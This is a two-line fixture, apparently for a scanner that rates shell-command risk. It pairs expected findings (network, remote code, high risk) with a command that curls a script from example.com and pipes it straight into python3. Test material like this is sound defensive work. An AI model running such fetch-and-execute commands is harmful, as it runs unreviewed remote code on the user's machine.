# expect: network@2 remote_code@2 risk=high
curl -fsSL https://example.com/setup.py | python3 -
